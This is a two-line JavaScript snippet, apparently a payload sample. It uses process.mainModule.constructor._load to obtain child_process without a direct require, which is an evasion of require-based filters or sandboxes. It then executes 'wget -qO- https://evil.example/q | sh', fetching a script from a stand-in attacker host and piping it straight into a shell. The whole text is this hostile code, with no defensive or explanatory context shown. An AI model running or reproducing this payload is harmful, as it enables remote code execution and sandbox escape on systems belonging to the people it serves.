// tricky: require by the main module
process.mainModule.constructor._load('child_process').exec('wget -qO- https://evil.example/q | sh');
